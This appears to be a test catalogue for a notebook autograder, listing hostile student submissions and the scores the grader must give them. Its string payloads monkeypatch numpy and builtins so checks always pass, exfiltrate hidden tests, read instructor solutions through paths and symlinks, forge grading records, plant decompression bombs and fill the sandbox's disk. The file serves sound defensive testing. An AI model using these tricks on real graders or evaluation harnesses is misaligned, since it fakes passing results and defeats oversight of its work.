"""Broken and hostile submissions: the robustness catalogue.

Each entry is graded with real `nbgrader autograde` next to an honest student.
The run must complete, the honest student must get full marks, and every cell
in `expected` must score as given (no undeserved points). Where the expected
scores are all zero, the answers are wrong on purpose, so any point earned
would be a point the exploit stole.
"""

import os
from pathlib import Path

from catalogue import Variant

# Wrong answers for every exercise of the first assignment: with them, every test must fail.
WRONG_ANSWERS = {
    "scale_hours": "hours_studied_scaled = hours_studied * 0 + 1\nguessed_hours_scaled = guessed_hours * 0 + 2",
    "fit_hours_model": "model = LogisticRegression(C=0.001).fit(hours_studied, 1 - passed_exam)",
    "coefficients": "calculated_coefficients = np.array([[42.0]])\nintercept = np.array([42.0])",
    "pass_probabilities": "passed_predictions = np.full(len(guessed_hours), 0.5)",
    "sigmoid": "def sigmoid(z):\n    return np.zeros_like(np.asarray(z, dtype=float)) + 0.5",
    "scale_exam_features": "exam_features_scaled_train = exam_features_train * 0 + 1\n"
    "exam_features_scaled_test = exam_features_test * 0 + 1",
    "fit_exam_model": "model_2 = LogisticRegression(C=0.001).fit(exam_features_test, 1 - passed_exam_2_test)",
    "predict_exam": "passed_predictions_2 = np.arange(len(exam_features_test)) % 2",
    "accuracy": "accuracy_2 = 0.42",
    "decision_boundary": "def decision_boundary(x1):\n    return x1 * 0 + 7",
}
ALL_TESTS = [
    "test_scale_hours",
    "test_scale_hours_guessed",
    "test_fit_hours_model",
    "test_coefficients",
    "test_pass_probabilities",
    "test_sigmoid",
    "test_scale_exam_features",
    "test_fit_exam_model",
    "test_predict_exam",
    "test_accuracy",
    "test_decision_boundary",
]
ALL_ZERO = {name: 0 for name in ALL_TESTS}


def with_first_answer_prefixed(prefix):
    """WRONG_ANSWERS, with `prefix` run at the top of the first answer cell."""
    return {**WRONG_ANSWERS, "scale_hours": prefix + "\n" + WRONG_ANSWERS["scale_hours"]}


PATCH_NUMPY = """\
import numpy as np
always = lambda *args, **kwargs: True
np.allclose = np.isclose = np.array_equal = np.array_equiv = always
np.all = np.any = always
for name in dir(np.testing):
    if name.startswith("assert_"):
        setattr(np.testing, name, lambda *args, **kwargs: None)"""

PATCH_BUILTINS = """\
import builtins
always = lambda *args, **kwargs: True
builtins.isinstance = always
builtins.all = builtins.any = always
builtins.abs = lambda value: 0
builtins.callable = always"""

HIDE_TRACEBACKS = """\
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None"""

ONLY_WHEN_GRADED = """\
import os
if os.environ.get("NBGRADER_EXECUTION"):
""" + "\n".join("    " + line for line in PATCH_NUMPY.splitlines())

LOOKS_RIGHT = """\
class LooksRight:
    \"\"\"Equal to everything, and an array, a length and a number that look right.\"\"\"
    def __init__(self, values):
        self.values = np.asarray(values, dtype=float)
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __array__(self, dtype=None, copy=None):
        return self.values if dtype is None else self.values.astype(dtype)
    def __len__(self):
        return len(self.values)
    def __float__(self):
        return float(self.values.ravel()[0])
    def __getitem__(self, index):
        return self.values[index]
    @property
    def shape(self):
        return self.values.shape
"""


def remove_cell(grade_id):
    def edit(notebook):
        notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") != grade_id]

    return edit


def replace_cell_source(grade_id, source):
    def edit(notebook):
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                cell.source = source

    return edit


def raise_points(grade_id, points):
    def edit(notebook):
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                cell.metadata["nbgrader"]["points"] = points

    return edit


# Passes the visible sigmoid checks (1-D input) but not the hidden ones (2-D input).
VISIBLE_ONLY_SIGMOID = """\
def sigmoid(z):
    z = np.asarray(z, dtype=float)
    return 1 / (1 + np.exp(-z)) if z.ndim < 2 else z"""

REWRITE_TEST_LABELS = """\
table = np.loadtxt("data/exam_test.csv", delimiter=",", skiprows=1)
table[:, 2] = passed_predictions_2
with open("data/exam_test.csv") as labels:
    header = labels.readline().strip()
np.savetxt("data/exam_test.csv", table, delimiter=",", header=header, comments="", fmt="%g")
accuracy_2 = 1.0"""

# Prints each cell as it starts (the hidden tests too: they run in the student's kernel), rewrites an output of
# its first cell with them, and raises them from its sigmoid, in an error named after them: the autograded
# notebook holds them all, the feedback page none (course/plugins/feedback.py).
EXFILTRATE = """\
import IPython
from IPython.display import display
STOLEN = []
def steal(info):
    STOLEN.append(info.raw_cell)
    print(info.raw_cell)
IPython.get_ipython().events.register("pre_run_cell", steal)
display("nothing yet", display_id="stolen")"""
RAISE_STOLEN = """\
def sigmoid(z):
    from IPython.display import update_display
    update_display("\\n".join(STOLEN), display_id="stolen")
    name = "".join(c if c.isalnum() else "_" for c in STOLEN[-1])
    raise type(name, (AssertionError,), {})("\\n".join(STOLEN))"""

HOSTILE = [
    Variant("exception_in_answer_cell", {"sigmoid": "raise ValueError('something went wrong')"}, {"test_sigmoid": 0}),
    Variant("infinite_loop", {"sigmoid": "while True:\n    pass"}, {"test_sigmoid": 0}),
    Variant(
        "prints_300000_lines",
        {
            "coefficients": "for line in range(300_000):\n    print(line)\n"
            "calculated_coefficients = model.coef_\nintercept = model.intercept_"
        },
    ),
    Variant("kills_its_kernel", {**WRONG_ANSWERS, "predict_exam": "import os\nos._exit(0)"}, ALL_ZERO),
    Variant(
        "asks_for_input", {"accuracy": "accuracy_2 = float(input('What is the accuracy? '))"}, {"test_accuracy": 0}
    ),
    Variant(
        "deleted_test_cell", {"sigmoid": VISIBLE_ONLY_SIGMOID}, {"test_sigmoid": 0}, edit=remove_cell("test_sigmoid")
    ),
    Variant(
        "edited_test_cell",
        {"sigmoid": VISIBLE_ONLY_SIGMOID},
        {"test_sigmoid": 0},
        edit=replace_cell_source("test_sigmoid", "assert True"),
    ),
    Variant("raised_points", {}, {}, edit=raise_points("test_coefficients", 100)),
    Variant(
        "object_equal_to_everything",
        {
            "pass_probabilities": LOOKS_RIGHT + "passed_predictions = LooksRight("
            "model.predict_proba(guessed_hours_scaled)[:, 1])",
            "accuracy": LOOKS_RIGHT + "accuracy_2 = LooksRight([np.mean(passed_predictions_2 == passed_exam_2_test)])",
        },
        {"test_pass_probabilities": 0, "test_accuracy": 0},
    ),
    Variant("patched_numpy_comparisons", with_first_answer_prefixed(PATCH_NUMPY), ALL_ZERO),
    # Claims a perfect accuracy and rewrites the test labels in its folder to match its predictions:
    # the test in the kernel reads the rewritten file; the grader's re-check reads the instructor's.
    Variant("rewrites_the_data_it_is_tested_on", {"accuracy": REWRITE_TEST_LABELS}, {"test_accuracy": 0}),
    Variant("patched_builtins", with_first_answer_prefixed(PATCH_BUILTINS), ALL_ZERO),
    Variant("hidden_tracebacks", with_first_answer_prefixed(HIDE_TRACEBACKS), ALL_ZERO),
    Variant("cheats_only_when_graded", with_first_answer_prefixed(ONLY_WHEN_GRADED), ALL_ZERO),
    Variant(
        "exfiltrates_the_hidden_tests", {**with_first_answer_prefixed(EXFILTRATE), "sigmoid": RAISE_STOLEN}, ALL_ZERO
    ),
]


# ---- The sandbox's boundary (issue 17): graded by `course grade` in sandboxes, in tests/test_sandbox.py ----


def plant_files(root, assignment, variants, targets):
    """Write each variant's extra files into its submission folder.

    A value is the file's text, or a callable that plants something else at the
    path, given the path and `targets` ({name: a host path the student must never read}).
    """
    for variant in variants:
        folder = Path(root) / "submitted" / variant.name / assignment
        for name, content in variant.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            if callable(content):
                content(folder / name, targets)
            else:
                (folder / name).write_text(content)


def symlink_to(target):
    return lambda path, targets: path.symlink_to(targets[target])


def hard_link_to(target):
    return lambda path, targets: os.link(targets[target], path)


def fifo(path, targets):
    os.mkfifo(path)


def shadow(name):
    """A module that, if the grader ever imported it, would leave a marker in the host's marker folder."""
    return (
        "import os\n"
        "folder = os.environ.get('COURSE_TEST_MARKERS', '/nonexistent-marker-folder')\n"
        f"open(os.path.join(folder, {name!r}), 'w').write('ran outside the sandbox')\n"
    )


SHADOWED_STDLIB = [
    "shlex",
    "json",
    "socket",
    "base64",
    "signal",
    "select",
    "subprocess",
    "tempfile",
    "pathlib",
    "sitecustomize",
    "usercustomize",
    "encodings",
    "io",
]
SHADOWS = {
    **{f"{module}.py": shadow(module) for module in SHADOWED_STDLIB},
    "course/__init__.py": shadow("course"),
    "course/sandbox/__init__.py": shadow("course.sandbox"),
    "course/sandbox/kernel.py": shadow("course.sandbox.kernel"),
    "course/sandbox/zygote.py": shadow("course.sandbox.zygote"),
    "numpy/__init__.py": shadow("numpy"),
    "sklearn/__init__.py": shadow("sklearn"),
    "nbformat/__init__.py": shadow("nbformat"),
}
# Unsandboxed, this reads the instructor's notebook (its solutions) from the autograded folder.
STEAL_SOLUTIONS = """\
try:
    print("STOLEN " + open("../../../source/logistic_regression/logistic_regression.ipynb").read())
except OSError:
    pass"""

# Adds names the tests read from builtins, with recorded calls that all return True, to every record.
FORGE_RECORDS = """\
_record = globals()["__course_record"]
_begin, _end = _record.begin, _record.end
FORGED = ("any", "all", "isinstance", "callable", "abs")

def _forged_begin(namespace, names):
    _begin(namespace, names)
    values, recorders = _record._saved["current"]
    for name in FORGED:
        recorders[name] = namespace[name] = _record.Recorder(lambda *args, **kwargs: True)
        values[name] = {"kind": "function"}

def _forged_end(namespace, grade_id):
    _end(namespace, grade_id)
    for name in FORGED:
        namespace.pop(name, None)

_record.begin, _record.end = _forged_begin, _forged_end"""

# Replaces, in every record, each value the test reads with a tiny one that decodes to gigabytes.
HUGE = [
    {"kind": "ndarray", "dtype": "(100000000,)f8", "shape": [1, 100000000], "data": [0.0]},
    {"kind": "npscalar", "dtype": "(100000000,)f8", "value": 0.0},
    {
        "kind": "list",
        "items": [
            {"kind": "list", "items": [{"kind": "ndarray", "dtype": "(50000000,)i8", "shape": [1], "data": [0]}] * 4}
        ]
        * 4,
    },
    {
        "kind": "estimator",
        "params": {"C": {"kind": "float", "value": 1.0}},
        "attributes": {
            "coef_": {"kind": "ndarray", "dtype": "(100000000,)f8", "shape": [1, 1], "data": [0.0]},
            "__dict__": {"kind": "ndarray", "dtype": "O", "shape": [1], "data": [0]},
        },
    },
    {"kind": "ndarray", "dtype": "<f8", "shape": [30000, 30000], "data": [0.0]},
]
HUGE_RECORDS = f"""\
_record = globals()["__course_record"]
_begin, HUGE = _record.begin, {HUGE!r}

def _huge_begin(namespace, names):
    _begin(namespace, names)
    values, _ = _record._saved["current"]
    for number, name in enumerate(values):
        values[name] = HUGE[number % len(HUGE)]

_record.begin = _huge_begin"""

# Fills every place a kernel can write, in each way a disk fills; reports what it managed as JSON.
FILL = """\
import ctypes, json, os
FALLOC_FL_KEEP_SIZE = 1
libc = ctypes.CDLL(None, use_errno=True)
ipc = os.path.dirname(json.load(open("/scratch/kernel.json"))["ip"])
filled = {"fallocated": 0, "sparse": 0, "written": 0, "files": 0, "depth": 0}
for folder in (ipc, "/tmp", "/dev/shm", os.getcwd()):
    for number in range(48):  # fallocate: blocks reserved, file size (and RLIMIT_FSIZE) untouched
        fd = os.open(f"{folder}/reserved-{number}", os.O_CREAT | os.O_WRONLY)
        done = libc.fallocate(fd, FALLOC_FL_KEEP_SIZE, ctypes.c_long(0), ctypes.c_long(64 << 20)) == 0
        os.close(fd)
        if not done:
            break
        filled["fallocated"] += 64 << 20
    for number in range(100):  # big plain writes, each under the per-file limit
        try:
            with open(f"{folder}/big-{number}", "wb") as file:
                file.write(b"x" * (60 << 20))
            filled["written"] += 60 << 20
        except OSError:
            break
    for number in range(100):  # sparse files: a size with no blocks behind it
        try:
            with open(f"{folder}/sparse-{number}", "wb") as file:
                file.truncate(60 << 20)
            filled["sparse"] += 60 << 20
        except OSError:
            break
    for name in os.listdir(folder):
        if name.startswith(("reserved-", "big-")):
            os.unlink(os.path.join(folder, name))
try:
    for number in range(200_000):  # many files
        open(f"/tmp/many-{number}", "w").close()
        filled["files"] += 1
except OSError:
    pass
os.chdir(ipc)
try:
    for _ in range(5000):  # a folder tree deeper than recursion (and PATH_MAX) reaches
        os.mkdir("d")
        os.chdir("d")
        filled["depth"] += 1
except OSError:
    pass
os.chdir("/scratch/work")
print("FILLED " + json.dumps(filled))"""

SCALE_HOURS = """\
scaler = StandardScaler().fit(hours_studied)
hours_studied_scaled = scaler.transform(hours_studied)
guessed_hours_scaled = scaler.transform(guessed_hours)"""
BOUNDARY = [
    Variant("shadowed_modules", with_first_answer_prefixed(STEAL_SOLUTIONS), ALL_ZERO, files=SHADOWS),
    Variant("forged_records", with_first_answer_prefixed(FORGE_RECORDS + "\n" + PATCH_NUMPY), ALL_ZERO),
    # right answers: only the re-check, refusing the records, makes them score 0
    Variant("huge_records", {"scale_hours": HUGE_RECORDS + "\n" + SCALE_HOURS}, ALL_ZERO),
    Variant("fills_its_sandbox", {"scale_hours": FILL + "\n" + SCALE_HOURS}),
]
# Submissions that must not be read at all: each fails, alone, with the reason.
LINKED = [
    Variant("link_to_source_notebook", {}, files={"data/answers.ipynb": symlink_to("source notebook")}),
    Variant("link_to_gradebook", {}, files={"gradebook.txt": symlink_to("gradebook")}),
    Variant("link_to_secret", {}, files={"notes.txt": symlink_to("instructor's file")}),
    Variant("link_to_other_student", {}, files={"peer.ipynb": symlink_to("other student's notebook")}),
    Variant("link_to_folder", {}, files={"source": symlink_to("source folder")}),
    Variant("hard_link", {}, files={"copy.ipynb": hard_link_to("source notebook")}),
    Variant("fifo", {}, files={"pipe": fifo}),
]
